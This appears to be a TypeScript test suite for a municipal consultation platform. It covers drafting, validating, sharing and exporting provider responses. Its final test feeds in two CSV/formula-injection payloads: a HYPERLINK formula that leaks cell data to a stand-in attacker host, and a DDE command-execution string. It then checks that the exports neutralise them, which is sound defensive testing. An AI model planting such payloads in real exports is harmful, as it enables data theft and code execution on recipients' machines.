import { expect, it } from "vitest";
import { and, eq } from "drizzle-orm";
import { parse } from "csv-parse/sync";
import { strFromU8, unzipSync } from "fflate";
import { auditLog, consultationAnswers, councils, providers, subregions, users } from "@/db/schema";
import { listResponsesForOfficer, listShareableResponses } from "@/db/queries/consultations";
import type { Actor } from "@/lib/auth/actor";
import { exportResponses } from "@/lib/consultation/export-file";
import { findOwnResponse, saveResponse } from "@/lib/consultation/responses";
import { createConsultation, inviteParticipants, publishConsultation } from "@/lib/consultation/writes";
import { DomainRuleError, InputError, NotFoundError } from "@/lib/errors";
import { createTrajectory } from "@/lib/trajectory/writes";
import { describeEachDatabase } from "@/tests/helpers/test-db";
import { minimalWorld } from "./fixtures";

const doc = {
  type: "doc" as const,
  content: [{ type: "paragraph" as const, content: [{ type: "text" as const, text: "Intro" }] }],
};

describeEachDatabase("consultation responses", (getDb) => {
  async function setup(suffix: string) {
    const db = getDb();
    const base = await minimalWorld(db, suffix);
    const ctx = { db, actor: base.actor, origin: "test" };
    const { id: trajectoryId } = await createTrajectory(ctx, base.input);
    const orgs = await db
      .insert(providers)
      .values(
        ["A", "B", "C"].map((n, i) => ({
          name: `Org ${n}${suffix}`,
          kvkNumber: `${i}${suffix}`,
          city: "Zaandam",
          sizeClass: "medium" as const,
        })),
      )
      .returning();
    const people = await db
      .insert(users)
      .values([
        {
          email: `a1${suffix}@x.nl`,
          name: "A1",
          role: "provider_member" as const,
          providerId: orgs[0]!.id,
          membershipStatus: "approved" as const,
        },
        {
          email: `a2${suffix}@x.nl`,
          name: "A2",
          role: "provider_member" as const,
          providerId: orgs[0]!.id,
          membershipStatus: "approved" as const,
        },
        {
          email: `b1${suffix}@x.nl`,
          name: "B1",
          role: "provider_member" as const,
          providerId: orgs[1]!.id,
          membershipStatus: "approved" as const,
        },
        {
          email: `c1${suffix}@x.nl`,
          name: "C1",
          role: "provider_member" as const,
          providerId: orgs[2]!.id,
          membershipStatus: "approved" as const,
        },
      ])
      .returning();
    const as = (u: (typeof people)[number]): Actor => ({
      id: u.id,
      name: u.name,
      email: u.email,
      role: u.role,
      providerId: u.providerId,
      membershipStatus: u.membershipStatus,
      councilId: null,
    });
    const now = Date.now();
    const { id } = await createConsultation(ctx, {
      trajectoryId,
      phase: "analysis",
      title: "Consultatie",
      introduction: doc,
      openness: "closed",
      form: "written",
      interaction: "interactive",
      audience: "providers",
      opensAt: new Date(now - 3600_000),
      closesAt: new Date(now + 86400_000),
      questions: [
        { kind: "open", prompt: "Wat is nodig?", helpText: "", required: true, options: [] },
        { kind: "open", prompt: "Wat is uw kostprijs?", helpText: "", required: false, options: [] },
        { kind: "scale", prompt: "Tevredenheid", helpText: "", required: false, options: [] },
      ],
    });
    await inviteParticipants(
      ctx,
      { consultationId: id, providerIds: [orgs[0]!.id, orgs[1]!.id], userIds: [] },
      "https://x",
    );
    await publishConsultation(ctx, id, "https://x");
    const loaded = await (await import("@/db/queries/consultations")).getConsultationOrThrow(db, id);
    const [q1, q2, q3] = loaded.questions.map((q) => q.id) as [string, string, string];
    return {
      db,
      id,
      q1,
      q2,
      q3,
      officer: base.actor,
      a1: as(people[0]!),
      a2: as(people[1]!),
      b1: as(people[2]!),
      c1: as(people[3]!),
      closesAt: loaded.closesAt,
    };
  }

  it("shares one draft per organisation and refuses a save based on an old version", async () => {
    const s = await setup("-r1");
    const ctxA1 = { db: s.db, actor: s.a1, origin: "test" };
    const ctxA2 = { db: s.db, actor: s.a2, origin: "test" };
    expect(
      (
        await saveResponse(ctxA1, {
          consultationId: s.id,
          baseVersion: 0,
          intent: "draft",
          values: { [`answer_${s.q1}`]: "Meer tijd" },
        })
      ).version,
    ).toBe(1);
    expect((await findOwnResponse(s.db, s.id, s.a2))?.answers[0]?.value).toBe("Meer tijd");
    await saveResponse(ctxA2, {
      consultationId: s.id,
      baseVersion: 1,
      intent: "draft",
      values: { [`answer_${s.q1}`]: "Meer tijd en geld" },
    });
    await expect(
      saveResponse(ctxA1, {
        consultationId: s.id,
        baseVersion: 1,
        intent: "draft",
        values: { [`answer_${s.q1}`]: "Overschrijven" },
      }),
    ).rejects.toBeInstanceOf(DomainRuleError);
    expect((await findOwnResponse(s.db, s.id, s.a1))?.answers[0]?.value).toBe("Meer tijd en geld");
  });

  it("checks answers against the questions and required ones on submit", async () => {
    const s = await setup("-r2");
    const ctx = { db: s.db, actor: s.a1, origin: "test" };
    await expect(
      saveResponse(ctx, { consultationId: s.id, baseVersion: 0, intent: "submit", values: {} }),
    ).rejects.toBeInstanceOf(InputError);
    await expect(
      saveResponse(ctx, {
        consultationId: s.id,
        baseVersion: 0,
        intent: "draft",
        values: { "answer_99999999-9999-4999-8999-999999999999": "x" },
      }),
    ).rejects.toBeInstanceOf(InputError);
    await expect(
      saveResponse(ctx, { consultationId: s.id, baseVersion: 0, intent: "draft", values: { [`answer_${s.q3}`]: "7" } }),
    ).rejects.toBeInstanceOf(InputError);
  });

  it("never shares competition-sensitive answers with other participants", async () => {
    const s = await setup("-r3");
    const saved = await saveResponse(
      { db: s.db, actor: s.a1, origin: "test" },
      {
        consultationId: s.id,
        baseVersion: 0,
        intent: "submit",
        values: {
          [`answer_${s.q1}`]: "Meer tijd",
          [`answer_${s.q2}`]: "GEHEIM-54,50",
          [`sensitive_${s.q2}`]: "on",
          [`answer_${s.q3}`]: "4",
        },
      },
    );
    expect(saved.status).toBe("submitted");
    const shared = await listShareableResponses(s.db, s.id, null);
    expect(shared).toHaveLength(1);
    expect(JSON.stringify([...shared[0]!.answers.values()])).not.toContain("GEHEIM");
    expect([...shared[0]!.answers.values()]).toEqual(expect.arrayContaining(["Meer tijd", 4]));
    expect(
      (await s.db.select().from(consultationAnswers)).some((a) => a.competitionSensitive && a.value === "GEHEIM-54,50"),
    ).toBe(true);
  });

  it("puts a council's advice under the council's name, not the member's", async () => {
    const db = getDb();
    const base = await minimalWorld(db, "-rc");
    const ctx = { db, actor: base.actor, origin: "test" };
    const { id: trajectoryId } = await createTrajectory(ctx, base.input);
    const [sub] = await db.select().from(subregions).where(eq(subregions.id, base.municipality.subregionId));
    const [council] = await db
      .insert(councils)
      .values({ name: "Wmo-raad Zaanstad-rc", regionId: sub!.regionId, kind: "wmo_council" })
      .returning();
    const [member] = await db
      .insert(users)
      .values({ email: "lid-rc@x.nl", name: "Petra Lid", role: "resident" as const, councilId: council!.id })
      .returning();
    const now = Date.now();
    const { id } = await createConsultation(ctx, {
      trajectoryId,
      phase: "analysis",
      title: "Consultatie voor raden",
      introduction: doc,
      openness: "open",
      form: "written",
      interaction: "interactive",
      audience: "residents",
      opensAt: new Date(now - 3600_000),
      closesAt: new Date(now + 86400_000),
      questions: [{ kind: "open", prompt: "Wat is nodig?", helpText: "", required: true, options: [] }],
    });
    await publishConsultation(ctx, id, "https://x");
    const loaded = await (await import("@/db/queries/consultations")).getConsultationOrThrow(db, id);
    const actor: Actor = {
      id: member!.id,
      name: member!.name,
      email: member!.email,
      role: "resident",
      providerId: null,
      membershipStatus: null,
      councilId: council!.id,
    };
    await saveResponse(
      { db, actor, origin: "test" },
      {
        consultationId: id,
        baseVersion: 0,
        intent: "submit",
        values: { [`answer_${loaded.questions[0]!.id}`]: "Meer aandacht voor mantelzorg" },
      },
    );
    expect((await listShareableResponses(db, id, null)).map((r) => r.name)).toEqual(["Wmo-raad Zaanstad-rc"]);
    expect((await listResponsesForOfficer(db, id)).map((r) => [r.respondent, r.kind])).toEqual([
      ["Wmo-raad Zaanstad-rc", "council"],
    ]);
  });

  it.each(["42", "null", "true", "[1, 2]", '{"a": 1}', '"tussen aanhalingstekens"'])(
    "keeps an open answer that reads like JSON (%s) as the text that was typed",
    async (typed) => {
      const s = await setup(`-rj${typed.length}${typed.charCodeAt(0)}`);
      await saveResponse(
        { db: s.db, actor: s.a1, origin: "test" },
        { consultationId: s.id, baseVersion: 0, intent: "submit", values: { [`answer_${s.q1}`]: typed } },
      );
      expect((await findOwnResponse(s.db, s.id, s.a1))?.answers.find((a) => a.questionId === s.q1)?.value).toBe(typed);
      expect((await listResponsesForOfficer(s.db, s.id))[0]?.answers.get(s.q1)?.value).toBe(typed);
      expect((await listShareableResponses(s.db, s.id, null))[0]?.answers.get(s.q1)).toBe(typed);
    },
  );

  it("refuses responses from the uninvited and after the closing moment", async () => {
    const s = await setup("-r4");
    await expect(
      saveResponse(
        { db: s.db, actor: s.c1, origin: "test" },
        { consultationId: s.id, baseVersion: 0, intent: "draft", values: {} },
      ),
    ).rejects.toBeInstanceOf(NotFoundError);
    const later = new Date(s.closesAt.getTime() + 1000);
    await expect(
      saveResponse(
        { db: s.db, actor: s.b1, origin: "test" },
        { consultationId: s.id, baseVersion: 0, intent: "submit", values: { [`answer_${s.q1}`]: "Te laat" } },
        later,
      ),
    ).rejects.toThrow(/sluitmoment/);
  });

  it("exports the responses for the municipality, sensitive answers marked, and logs each export", async () => {
    const s = await setup("-r5");
    await saveResponse(
      { db: s.db, actor: s.a1, origin: "test" },
      {
        consultationId: s.id,
        baseVersion: 0,
        intent: "submit",
        values: { [`answer_${s.q1}`]: "Meer tijd", [`answer_${s.q2}`]: "GEHEIM-54,50", [`sensitive_${s.q2}`]: "on" },
      },
    );
    await saveResponse(
      { db: s.db, actor: s.b1, origin: "test" },
      { consultationId: s.id, baseVersion: 0, intent: "submit", values: { [`answer_${s.q1}`]: "Minder papier" } },
    );
    const ctx = { db: s.db, actor: s.officer, origin: "test" };

    const csv = await exportResponses(ctx, s.id, "csv", {});
    expect(csv.contentType).toBe("text/csv; charset=utf-8");
    expect(csv.fileName).toBe("reacties-Consultatie.csv");
    const text = new TextDecoder().decode(csv.content);
    expect(text).toContain("[CONCURRENTIEGEVOELIG] GEHEIM-54,50");
    expect(text).toContain("Minder papier");
    const xlsx = await exportResponses(ctx, s.id, "xlsx", { sizeClass: "small" });
    expect(Buffer.from(xlsx.content.subarray(0, 2)).toString()).toBe("PK");

    const logged = await s.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.action, "consultation.export"), eq(auditLog.objectId, s.id)))
      .orderBy(auditLog.id);
    expect(logged.map((e) => [e.actorId, e.details])).toEqual([
      [s.officer.id, { title: "Consultatie", format: "csv", rows: 2, sensitive: 1, filter: null }],
      [s.officer.id, { title: "Consultatie", format: "xlsx", rows: 0, sensitive: 0, filter: "grootte=small" }],
    ]);
    await expect(exportResponses(ctx, "99999999-9999-4999-8999-999999999999", "csv", {})).rejects.toBeInstanceOf(
      NotFoundError,
    );
  });

  it("exports a provider's formula answers as text in CSV and XLSX", async () => {
    const s = await setup("-r6");
    const formula = '=HYPERLINK("https://aanval.example/?d="&A2,"Bekijk onze offerte")';
    await saveResponse(
      { db: s.db, actor: s.a1, origin: "test" },
      {
        consultationId: s.id,
        baseVersion: 0,
        intent: "submit",
        values: { [`answer_${s.q1}`]: formula, [`answer_${s.q2}`]: "@SUM(1+1)*cmd|' /C calc'!A0" },
      },
    );
    const ctx = { db: s.db, actor: s.officer, origin: "test" };
    const starts = /^[\s]*[=+\-@＝＋－＠]/;

    const csv = await exportResponses(ctx, s.id, "csv", {});
    const rows = parse(new TextDecoder().decode(csv.content), { delimiter: ";", bom: true });
    expect(rows.flat()).toContain(`'${formula}`);
    expect(rows.flat()).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
    for (const cell of rows.flat()) expect(cell).not.toMatch(starts);

    const xlsx = unzipSync((await exportResponses(ctx, s.id, "xlsx", {})).content);
    expect(strFromU8(xlsx["xl/worksheets/sheet1.xml"]!)).not.toMatch(/<f[ >]/);
    const strings = [...strFromU8(xlsx["xl/sharedStrings.xml"]!).matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map((m) =>
      m[1]!
        .replace(/&amp;/g, "&")
        .replace(/&quot;/g, '"')
        .replace(/&apos;/g, "'"),
    );
    expect(strings).toContain(`'${formula}`);
    for (const cell of strings) expect(cell).not.toMatch(starts);
  });
});
